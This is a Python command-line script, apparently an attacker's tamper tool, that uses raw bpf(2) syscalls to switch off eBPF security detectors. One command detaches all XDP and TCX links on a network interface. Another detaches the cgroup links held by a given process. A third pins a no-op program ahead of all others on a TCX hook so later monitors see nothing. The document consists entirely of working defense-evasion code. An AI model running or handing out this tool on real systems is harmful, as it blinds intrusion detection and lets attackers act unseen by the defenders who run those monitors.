"""Takes a detector's programs away: `tamper.py detach DEVICE`, `tamper.py first DEVICE ingress|egress`, `tamper.py blind PID`.

By bpf(2) itself, as whoever has root could. `first` puts a program that does nothing before all others of a
tcx hook and keeps it there.
"""

import ctypes
import ctypes.util
import os
import signal
import socket
import struct
import sys

BPF = 321
PROG_LOAD, OBJ_GET_INFO_BY_FD, LINK_CREATE, LINK_DETACH = 5, 15, 28, 34
LINK_GET_FD_BY_ID, LINK_GET_NEXT_ID = 30, 31
XDP_LINK, TCX_LINK = 6, 11
SCHED_CLS = 3
TCX = {"ingress": 46, "egress": 47}
BEFORE = 1 << 3

libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes, 128)
    result = libc.syscall(BPF, command, buffer, 128)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def detach(device):
    """Every link to the device, whoever holds it."""
    index, link_id = socket.if_nametoindex(device), 0
    while True:
        attributes = ctypes.create_string_buffer(struct.pack("II", link_id, 0), 128)
        if libc.syscall(BPF, LINK_GET_NEXT_ID, attributes, 128) < 0:
            return
        link_id = struct.unpack_from("I", attributes, 4)[0]
        link = bpf(LINK_GET_FD_BY_ID, struct.pack("I", link_id))
        information = ctypes.create_string_buffer(256)
        address = ctypes.addressof(information)
        bpf(OBJ_GET_INFO_BY_FD, struct.pack("IIQ", link, len(information), address))
        kind, _, _, _, interface = struct.unpack_from("IIIII", information)
        if kind in (XDP_LINK, TCX_LINK) and interface == index:
            bpf(LINK_DETACH, struct.pack("I", link))
            print(f"detached {link_id}", flush=True)
        os.close(link)


def blind(pid):
    """The links to control groups that a process holds."""
    for name in os.listdir(f"/proc/{pid}/fdinfo"):
        try:
            text = open(f"/proc/{pid}/fdinfo/{name}").read()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
        if fields.get("link_type", "").strip() == "cgroup":
            link = bpf(LINK_GET_FD_BY_ID, struct.pack("I", int(fields["link_id"])))
            bpf(LINK_DETACH, struct.pack("I", link))
            print(f"detached {fields['link_id'].strip()}", flush=True)


def first(device, side):
    # r0 = -1, which is TCX_NEXT; exit
    code = ctypes.create_string_buffer(struct.pack("BBhiBBhi", 0xB7, 0, 0, -1, 0x95, 0, 0, 0))
    license = ctypes.create_string_buffer(b"GPL")
    addresses = ctypes.addressof(code), ctypes.addressof(license)
    program = bpf(PROG_LOAD, struct.pack("IIQQ", SCHED_CLS, 2, *addresses))
    index = socket.if_nametoindex(device)
    bpf(LINK_CREATE, struct.pack("IIIIIIQ", program, index, TCX[side], BEFORE, 0, 0, 0))
    print("first", flush=True)
    signal.pause()


{"detach": detach, "first": first, "blind": blind}[sys.argv[1]](*sys.argv[2:])
